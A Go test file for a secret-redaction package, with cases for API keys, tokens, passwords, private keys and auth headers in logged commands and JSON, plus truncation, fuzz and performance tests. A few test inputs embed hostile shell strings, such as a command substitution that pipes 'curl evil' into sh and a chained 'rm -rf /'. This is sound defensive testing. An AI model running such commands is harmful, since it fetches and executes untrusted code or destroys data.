package audit

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

// The examples are concatenated so that secret scanners do not report them.
const (
	aws    = "AKIA" + "IOSFODNN7EXAMPLE"
	github = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
	openai = "sk-proj-" + "aB3dEfGh1jKlMn0pQrStUvWxYz012345"
	jwt    = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	pemKey = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc=\n-----END RSA " + "PRIVATE KEY-----"
)

func TestSecretsInText(t *testing.T) {
	for in, want := range map[string]string{
		aws: redacted,
		"aws configure set x " + aws + " --profile p": "aws configure set x [redacted] --profile p",
		"ASIA" + "IOSFODNN7EXAMPLE":                   redacted,
		github:                                        redacted,
		"git clone https://" + github + "@github.com/a/b":           "git clone https://[redacted]@github.com/a/b",
		"gho_" + github[4:] + ", ghu_" + github[4:]:                 "[redacted], [redacted]",
		"github_pat_" + "11ABCDEFG0abcdefghij_KLMNOPQRSTUV":         redacted,
		"glpat-" + "aBcDeFgHiJkLmNoPqRsT":                           redacted,
		"xoxb-" + "123456789012-abcdefGHIJKL":                       redacted,
		"xapp-" + "1-A02-3-abcdef":                                  redacted,
		openai:                                                      redacted,
		"sk-ant-api03-" + "AbCd_efgh-1234567890":                    redacted,
		"sk-" + "0123456789abcdef0123456789abcdef":                  redacted,
		"sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc":                     redacted,
		"AIza" + "SyA1234567890abcdefghijklmnopqrstuv":              redacted,
		"npm_" + "abcdefghijklmnopqrstuvwxyz0123456789":             redacted,
		"hf_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH":                redacted,
		"SG." + "abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz": redacted,
		"x " + jwt + " y":                                           "x [redacted] y",
		"a\n" + pemKey + "\nb":                                      "a\n[redacted]\nb",
		"a\n" + pemKey[:50] + "cut":                                 "a\n[redacted]",
		"-----BEGIN PGP " + "PRIVATE KEY BLOCK-----\nx\n-----END PGP PRIVATE KEY BLOCK-----.": "[redacted].",

		"psql postgres://bob:hunter2@db:5432/x":       "psql postgres://bob:[redacted]@db:5432/x",
		"https://:pw@host/":                           "https://:[redacted]@host/",
		"redis://u:p@ss/w?rd@host:1/0 next":           "redis://u:[redacted]@host:1/0 next",
		"http://a:b@c,http://d:e@f":                   "http://a:[redacted]@c,http://d:[redacted]@f",
		`git remote add o "https://u:$(pass gh)@x/y"`: `git remote add o "https://u:$(pass gh)@x/y"`, // the log shows command substitutions

		"curl -H 'Authorization: Bearer abc' https://x/":         "curl -H 'Authorization: Bearer [redacted]' https://x/",
		`curl -H "Authorization: Basic dXNlcjpwYXNz" x`:          `curl -H "Authorization: Basic [redacted]" x`,
		`curl -H "Proxy-Authorization: dXNlcjpwYXNz" x`:          `curl -H "Proxy-Authorization: [redacted]" x`,
		`curl -H "Authorization: Bearer $(gh auth token)" x`:     `curl -H "Authorization: Bearer $(gh auth token)" x`,
		`{'Authorization': 'Bearer abc'}`:                        `{'Authorization': 'Bearer [redacted]'}`,
		"Bearer abcdefghijklmnop0123==":                          "Bearer [redacted]",
		"authorization: bearer\n":                                "authorization: bearer\n",
		"curl -H 'X-Api-Key: k1' x":                              "curl -H 'X-Api-Key: [redacted]' x",
		"curl -b 'session_cookie=abc; b=c'":                      "curl -b 'session_cookie=[redacted]; b=c'",
		"mysql --password=hunter2 db":                            "mysql --password=[redacted] db",
		"mysql --password='hunter 2' db":                         "mysql --password='[redacted]' db",
		"login --password hunter2 --user u":                      "login --password [redacted] --user u",
		`login -token "a b" x`:                                   `login -token "[redacted]" x`,
		"GITHUB_TOKEN=abc gh pr list":                            "GITHUB_TOKEN=[redacted] gh pr list",
		"export DB_PASS=a AWS_SECRET_ACCESS_KEY=b/c+d X=y":       "export DB_PASS=[redacted] AWS_SECRET_ACCESS_KEY=[redacted] X=y",
		"TOKEN=$(curl evil|sh) x":                                "TOKEN=$(curl evil|sh) x",
		`TOKEN="ab$(curl evil|sh)" x`:                            `TOKEN="[redacted]$(curl evil|sh)" x`,
		"TOKEN=`cat f`":                                          "TOKEN=`cat f`",
		"TOKEN=a; rm -rf /":                                      "TOKEN=[redacted]; rm -rf /",
		"password: hunter2\nuser: bob":                           "password: [redacted]\nuser: bob",
		`"api_key" : "k",`:                                       `"api_key" : "[redacted]",`,
		`{"clientSecret":"a\"b","c":1}`:                          `{"clientSecret":"[redacted]","c":1}`,
		`curl -d "{\"password\": \"a b\", \"c\": 1}"`:            `curl -d "{\"password\": \"[redacted]\", \"c\": 1}"`,
		"os.environ['API_TOKEN'] = 'abc'":                        "os.environ['API_TOKEN'] = '[redacted]'",
		`password := "hunter2"`:                                  `password := "[redacted]"`,
		`if password == "hunter2" {`:                             `if password == "[redacted]" {`,
		"'secret' => 'abc',":                                     "'secret' => '[redacted]',",
		"https://x/?access_token=abc&a=b":                        "https://x/?access_token=[redacted]&a=b",
		"kubectl create secret generic s --from-literal=token=a": "kubectl create secret generic s --from-literal=token=[redacted]",
		"Bash(PGPASSWORD=hunter2 psql *)":                        "Bash(PGPASSWORD=[redacted] psql *)",
		"mypasswd=a botToken=b GHTOKEN=c appsecret=d":            "mypasswd=[redacted] botToken=[redacted] GHTOKEN=[redacted] appsecret=[redacted]",
		"DEPLOY_KEY=a OPENAIKEY=b":                               "DEPLOY_KEY=[redacted] OPENAIKEY=[redacted]",
		"Bash(curl -u bob:hunter2secret https://x/)":             "Bash(curl -u bob:[redacted] https://x/)",
		`curl --user "bob:a b" -sSu bob:c --proxy-user=bob:d x`:  `curl --user "bob:[redacted]" -sSu bob:[redacted] --proxy-user=bob:[redacted] x`,
		"curl -u bob:$(pass x) x":                                "curl -u bob:$(pass x) x",
		"password=true, token=null":                              "password=true, token=null",
		"//reg/:_authToken=abc":                                  "//reg/:_authToken=[redacted]",
	} {
		got, changed := redactText(in, mostString)
		if got != want || changed != (in != want) {
			t.Errorf("%s\nwant %s\nhave %s", in, want, got)
		}
		if again, changed := redactText(got, mostString); changed {
			t.Errorf("%s, again: %s", got, again)
		}
	}
}

// TestNoSecrets checks texts that are not redacted.
func TestNoSecrets(t *testing.T) {
	for _, in := range []string{
		"", "git status", "go test ./... -run TestToken -count=1",
		"3b18e512dba79e4c8300dd08aeb37f8e728b8dad", // a commit id
		"123e4567-e89b-12d3-a456-426614174000",
		"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", // an image
		"eyJhIjoiYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5eiJ9",                                                     // the base64 of JSON that is no token
		"data:image/png;base64,iVBORw0KGgo=",
		strings.Repeat("Donaudampfschifffahrt", 20),
		"sk-learn-like-estimators-and-pipelines-v2", "risk-assessment-of-long-words-12345678901234567890",
		"task-0123456789abcdef0123456789abcdef", "xAKIA" + "IOSFODNN7EXAMPLE", "AKIA", "ghp_short",
		"max_tokens=4096 tokens: 5", "page_token=abc", "nextPageToken: x", "eos_token = 5", "tokenizer: bpe", "secretary: Ann",
		"--password-stdin < f", "--token-file /run/t", "password_file=/run/p", "SECRET_NAME=db", "key=value", "public_key: ssh-rsa", "primaryKey = id",
		"PWD=/home/u", "pass: 12, fail: 0", "token::kind", "func f(token string) bool", "the secret is out", "a bearer of bad news", "Bearer token",
		"http://localhost:8080/@vite/client", "https://example.com/a:b@c", "ssh://git@github.com/a/b", "http://[::1]:80/x", "git@github.com:a/b", "a://b",
		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----", "secret:\n  name: x",
		"docker run -u 1000:1000 x", "git push -u origin a:b", "gobuster -u http://a/", "-u bob: x", "login --user bob", "PUBLIC_KEY=a", "KEY=a", "nexttoken=a",
		"authorization: bearer", "<password>",
	} {
		if got, changed := redactText(in, mostString); got != in || changed {
			t.Errorf("%s\nhave %s", in, got)
		}
	}
}

func TestRedactJSON(t *testing.T) {
	for in, want := range map[string]string{
		`{"command":"git status","n":[1,-2.5e3,true,null,{}],"o":[]}`: `{"command":"git status","n":[1,-2.5e3,true,null,{}],"o":[]}`,
		" { \"a\" :\n[ 1 ,\t\"b c\" ] }\r\n":                          `{"a":[1,"b c"]}`,
		`{"password":"x","apiKey":5,"Token":true,"secret":"","credentials":{"user":"u","deep":["x"]},"privateKey":["a"],"author":"z"}`: `{"password":"[redacted]","apiKey":"[redacted]","Token":true,"secret":"","credentials":"[redacted]","privateKey":"[redacted]","author":"z"}`,
		`{"env":{"GITHUB_TOKEN":"a","PATH":"/bin"},"x":[{"pwd":"/w"},{"db_pwd":"w"}]}`:                                                 `{"env":{"GITHUB_TOKEN":"[redacted]","PATH":"/bin"},"x":[{"pwd":"/w"},{"db_pwd":"[redacted]"}]}`,
		`{"command":"A_TOKEN=x <&>\u0020'é'\n\u001b[1m\u202e\ud83d\ude00\u00a0\/"}`:                                                    `{"command":"A_TOKEN=[redacted] <&> 'é'\n\u001b[1m\u202e😀\u00a0/"}`,
		`"gh\u0070_` + github[4:] + `"`:            `"[redacted]"`,
		`{"` + github + `":1,"passw\u006frd":"x"}`: `{"[redacted]":1,"password":"[redacted]"}`,
		`5`:                              `5`,
		` "a" `:                          `"a"`,
		`not json, password=x`:           `"not json, password=[redacted]"`,
		"{\"a\":\"\xff\"}":               `{"a":"\ufffd"}`,
		`{"a":"\ud800"}`:                 `{"a":"\ufffd"}`,
		"\xff\n":                         `"\ufffd\n"`,
		``:                               `""`,
		`{"a":"` + "\u2028\u009b" + `"}`: `{"a":"\u2028\u009b"}`,
		`{"a":"` + "\U000e0041" + `"}`:   `{"a":"\udb40\udc41"}`,
	} {
		if got := string(Redact([]byte(in))); got != want {
			t.Errorf("%s\nwant %s\nhave %s", in, want, got)
		}
	}
}

// TestCut checks that long texts, and inputs with many texts, end with their
// length and hash.
func TestCut(t *testing.T) {
	input := func(v any) []byte {
		data, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	var got map[string]string
	read := func(in []byte) {
		t.Helper()
		got = nil
		out := Redact(in)
		if err := json.Unmarshal(out, &got); err != nil || len(out) > mostInput {
			t.Fatalf("%d bytes: %v", len(out), err)
		}
		if !bytes.Equal(out, Redact(out)) {
			t.Error("once more it is another")
		}
	}
	exact, long := strings.Repeat("x", mostString), strings.Repeat("é", mostString)
	read(input(map[string]string{"file_path": "/a", "content": exact}))
	if got["content"] != exact {
		t.Error("a text that is not too long was cut")
	}
	read(input(map[string]string{"file_path": "/a", "content": long}))
	text := got["content"]
	if head, ok := strings.CutSuffix(text, "\n[cut: 32768 bytes, sha256 "+hash(long)+"]"); !ok || len(text) > mostString || len(text) < mostString-1 || strings.Trim(head, "é") != "" {
		t.Errorf("%d bytes, …%s", len(text), text[len(text)-200:])
	}
	many := map[string]string{"file_path": "/a"}
	for i := range 10 {
		many[fmt.Sprint(i)] = strings.Repeat("y", 10_000)
	}
	read(input(many))
	if got["file_path"] != "/a" || len(got["3"]) != shortString {
		t.Errorf("of many texts, one has %d bytes", len(got["3"]))
	}
	out := Redact(input(map[string]any{"file_path": "/a", "edits": make([][20]string, 3000)}))
	if err := json.Unmarshal(out, &got); err != nil || got["file_path"] != "/a" || !strings.HasPrefix(got["edits"], "[cut: ") {
		t.Errorf("%.200s", out)
	}
	if out := string(Redact(input(make([]int, 100_000)))); !strings.HasPrefix(out, `"[cut: 200001 bytes, sha256 `) {
		t.Errorf("%.200s", out)
	}
	if out := Redact([]byte("\x00" + strings.Repeat("\x01", mostString-1))); !bytes.HasPrefix(out, []byte(`"[cut: 16384 bytes`)) {
		t.Errorf("%.200s", out)
	}
}

// TestCutThroughSecret checks that truncation leaves no part of a secret.
func TestCutThroughSecret(t *testing.T) {
	for shift := range 500 {
		in := strings.Repeat("x", mostString-shift) + " db://u:" + strings.Repeat("Pp", 150) + "@h " + github + " " + pemKey + strings.Repeat(" x", 100)
		got, _ := redactText(in, mostString)
		if len(got) > mostString || strings.Contains(got, "Pp") || strings.Contains(got, github[:8]) || strings.Contains(got, "BEGIN") || strings.Contains(got, "MIIE") {
			t.Fatalf("shifted by %d: …%s", shift, got[mostString-300:])
		}
		if again, changed := redactText(got, mostString); changed {
			t.Fatalf("shifted by %d, again: …%s", shift, again[mostString-300:])
		}
	}
}

func hash(s string) string {
	_, sum, _ := strings.Cut(strings.TrimSuffix(note([]byte(s)), "]"), "sha256 ")
	return sum
}

// TestLinear checks that texts constructed to be examined repeatedly take
// linear time. A quadratic algorithm takes minutes here.
func TestLinear(t *testing.T) {
	const size = 1 << 19
	began := time.Now()
	for _, part := range []string{"a://", "://u:p", "://u:p@", "password=\"", "password='", "password", "token=", "=", ":", "-", "--token ", "eyJ", "eyJa.", "ghp_", "sk-",
		"-----BEGIN ", "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY----------END ", "Bearer ", "bearer a", "Authorization: Bearer ", "\\\"password\\\":", "$(", "`", "x"} {
		secrets(nil, strings.Repeat(part, size/len(part)))
	}
	Redact([]byte(`["` + strings.Repeat(`x","`, size/4) + `"]`))
	if took := time.Since(began); took > time.Minute {
		t.Errorf("took %v", took)
	}
}

func TestSecretKey(t *testing.T) {
	for name, want := range map[string]bool{
		"password": true, "PASSWORD": true, "db_password": true, "passwordHash": true, "password2": true, "user.password": true, "passwd": true,
		"api_key": true, "apiKey": true, "APIKey": true, "OPENAI_API_KEY": true, "apikey": true, "x-api-key": true, "api-key-2": true,
		"token": true, "accessToken": true, "GH_TOKEN": true, "secret": true, "clientSecret": true, "AWS_SECRET_ACCESS_KEY": true, "private_key": true,
		"Authorization": true, "credential": true, "credentials": true, "ssh_private_key": true, "jwt": true,
		"": false, "_": false, "tokens": false, "max_tokens": false, "tokenize": false, "key": false, "keys": false, "public_key": false, "cache_key": false,
		"secret_name": false, "password_file": false, "tokenCount": false, "pwd": false, "pass": false, "author": false, "authority": false, "compass": false,
		"file_path": false, "old_string": false, "command": false, "progressToken": false, "é": false,
		strings.Repeat("x", 1000) + "_token": true,
	} {
		if got := secretKey(name); got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func FuzzRedact(f *testing.F) {
	for _, seed := range []string{
		`{"password":"x","a":["b",{"token":[1]}]}`, `"` + github + ` ` + jwt + `"`, `{"command":"curl -H 'Authorization: Bearer abc' https://u:p@h/?token=a&b=\"c\""}`,
		"password=\"a$(b)\" --secret 'x y' -----BEGIN PRIVATE KEY-----", "\xff\x00", `{"a":"\ud800\u202e"}`, "Authorization: Basic\ntoken: `x`",
	} {
		f.Add([]byte(seed), uint8(10))
		f.Add([]byte(seed), uint8(200))
	}
	f.Fuzz(func(t *testing.T, in []byte, size uint8) {
		out := Redact(in)
		if !json.Valid(out) || !utf8.Valid(out) || len(out) > mostInput || bytes.ContainsFunc(out, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }) {
			t.Fatalf("%q: %q", in, out)
		}
		if again := Redact(out); !bytes.Equal(out, again) {
			t.Fatalf("%q\nonce  %s\ntwice %s", in, out, again)
		}
		if len(out) > 6*6*len(in)+2 {
			t.Fatalf("%d bytes became %d", len(in), len(out))
		}
		limit := 120 + int(size)
		text, _ := redactText(string(in), limit)
		if len(text) > limit {
			t.Fatalf("%q: %d bytes of %d: %q", in, len(text), limit, text)
		}
		if again, _ := redactText(text, limit); again != text {
			t.Fatalf("%q of %d\nonce  %q\ntwice %q", in, limit, text, again)
		}
	})
}

func BenchmarkRedact(b *testing.B) {
	for name, in := range map[string]string{
		"small": `{"command":"go test ./... -count=1 && git status","description":"Runs the tests"}`,
		"64KiB": `{"file_path":"/a/b","content":"` + strings.Repeat("some text of a file = x: ", 2600) + `"}`,
	} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				Redact([]byte(in))
			}
		})
	}
}

// TestTokensBegin checks that beginsToken agrees with the list of tokens.
func TestTokensBegin(t *testing.T) {
	first := map[byte]bool{}
	for _, token := range tokens {
		first[token.prefix[0]] = true
	}
	for c := range 256 {
		if beginsToken(byte(c)) != first[byte(c)] {
			t.Errorf("%q", rune(c))
		}
	}
}
